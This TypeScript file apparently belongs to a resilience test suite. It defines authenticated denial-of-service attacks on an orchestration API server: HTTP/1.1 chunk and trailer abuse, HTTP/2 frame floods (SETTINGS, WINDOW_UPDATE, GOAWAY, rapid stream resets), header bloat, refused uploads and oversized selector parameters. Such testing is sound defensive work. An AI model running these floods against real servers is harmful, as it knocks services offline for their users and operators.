/** What somebody known does, who may do everything, for as long as he is let, by name: no bound of strangers is his. */
import type { ConnectionOptions } from "node:tls";
import type { Credentials } from "../support/api-client.js";
import { brokenTrailers, crumbs, FLAG, FRAME, frame, requestHeaders, withTrailers } from "../support/attacker.js";
import { type Attack, changesOfKeys, keep, MAPS, pause, pour } from "./attacks.js";

const CONNECTIONS = 4;
const MANY_CONNECTIONS = 64;
const UPLOAD_BYTES = 3_000_000;
const TRAILERS = 400;
const chunked = `POST ${MAPS} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n`;

/** Connections of HTTP/1.1 on which a request begins, and is gone on with, one piece after the other. */
const goesOn =
  (head: string, piece: string) =>
  (credentials: Credentials): Attack =>
    keep(CONNECTIONS, async (attacker, isOver) =>
      pour((await attacker.tls("http/1.1", credentials)).resume(), isOver, (index) => (index === 0 ? head : piece)),
    );

/** Connections of HTTP/2 on which somebody is known by the first stream, then one frame after the other. */
const frames =
  (next: (index: number) => Buffer) =>
  (credentials: Credentials): Attack =>
    keep(CONNECTIONS, async (attacker, isOver) => {
      const socket = await attacker.http2Socket(credentials);
      socket.resume().write(frame(FRAME.headers, FLAG.endHeaders, 1, requestHeaders("POST", MAPS)));
      await pause(20);
      await pour(socket, isOver, next);
    });

/** Connections that send a large body to where nothing is, leave when they are told so, and come back. */
const refusedUploads = (credentials: Credentials): Attack =>
  keep(MANY_CONNECTIONS, async (attacker, isOver) => {
    const socket = await attacker.tls("http/1.1", credentials);
    const refused = new Promise((resolve) => socket.once("data", resolve).once("close", resolve));
    socket.write(`POST ${MAPS}s HTTP/1.1\r\nhost: x\r\ncontent-length: ${UPLOAD_BYTES}\r\n\r\n`);
    const piece = Buffer.alloc(UPLOAD_BYTES / 3, "a");
    let sent = 0;
    const sending = pour(
      socket,
      () => isOver() || sent >= UPLOAD_BYTES,
      () => {
        sent += piece.length;
        return piece;
      },
    );
    await Promise.race([refused, sending]);
    socket.destroy();
  });

/** Connections that ask for a watch and say that nothing more comes from them. */
const watchesAtTheEnd = (credentials: Credentials): Attack =>
  keep(MANY_CONNECTIONS, async (attacker) => {
    const socket = await attacker.tls("http/1.1", { ...credentials, allowHalfOpen: true } as Credentials);
    socket.resume().end(`GET ${MAPS}?watch=1 HTTP/1.1\r\nhost: x\r\n\r\n`);
    await Promise.race([new Promise((resolve) => socket.once("close", resolve)), pause(1000)]);
    socket.destroy();
  });

const parameters = [
  `labelSelector=${"a!%3Db%2C".repeat(30_000)}`,
  `labelSelector=a+in+(${"x%2C".repeat(16_000)}y)`,
  `fieldSelector=${"metadata.name!%3Db%2C".repeat(999)}`,
  `labelSelector=${"(".repeat(100_000)}`,
  `fieldSelector=${"%5C".repeat(90_000)}`,
  `continue=${"e".repeat(300_000)}`,
];

const made = JSON.stringify({ metadata: { generateName: "made-" }, data: { a: "x".repeat(2000) } });
const ofAllSorts = [
  `GET ${MAPS}/honest HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(8),
  `POST ${MAPS} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${made.length}\r\n\r\n${made}`.repeat(4),
  `GET ${MAPS} HTTP/1.1\r\nhost: x\r\naccept: application/json;as=Table;g=meta.orch.io;v=v1\r\n\r\n`,
];

export const KNOWN_ATTACKS: Readonly<Record<string, (credentials: Credentials) => Attack>> = {
  "somebody known: chunks of one byte": goesOn(chunked, "1\r\na\r\n".repeat(1000)),
  "somebody known: trailers without end": goesOn(`${chunked}0\r\n`, "x-trailer: y\r\n".repeat(500)),
  "somebody known: requests with 500 trailers": goesOn(
    "",
    `GET /version HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n0\r\n${"t: y\r\n".repeat(500)}\r\n`.repeat(10),
  ),
  "somebody known: DATA of one byte": frames(() => frame(FRAME.data, 0, 1, Buffer.from("a"))),
  "somebody known: a flood of WINDOW_UPDATE": frames(() => frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))),
  "somebody known: a flood of SETTINGS": frames(() => frame(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  "somebody known: streams that are reset": frames((index) =>
    Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 2 * index + 3, requestHeaders("GET", `${MAPS}?watch=1`)),
      frame(FRAME.reset, 0, 2 * index + 3, Buffer.from([0, 0, 0, 8])),
    ]),
  ),
  "somebody known: bodies that are left open": frames((index) =>
    frame(FRAME.headers, FLAG.endHeaders, 2 * index + 3, requestHeaders("POST", MAPS)),
  ),
  "somebody known: 480 header references each": frames((index) =>
    frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 2 * index + 3, requestHeaders("GET", `${MAPS}/none`, crumbs(480))),
  ),
  "somebody known: bodies with 400 trailers": frames((index) => withTrailers(2 * index + 3, TRAILERS)),
  "somebody known: trailers that break the protocol": frames((index) => brokenTrailers(2 * index + 3)),
  "somebody known: a flood of GOAWAY": frames(() => frame(FRAME.goAway, 0, 0, Buffer.alloc(8))),
  "somebody known: 64 uploads that are refused": refusedUploads,
  "somebody known: 64 watches of clients that say no more": watchesAtTheEnd,
  "somebody known: changes of keys on 64 connections": (credentials) =>
    changesOfKeys({ cert: credentials.cert, key: credentials.key } as ConnectionOptions),
  "somebody known: reads, writes and Tables at once": goesOn("", ofAllSorts.join("")),
  "somebody known: parameters of 300 KB": goesOn("", parameters.map((each) => `GET ${MAPS}?${each} HTTP/1.1\r\nhost: x\r\n\r\n`).join("")),
};
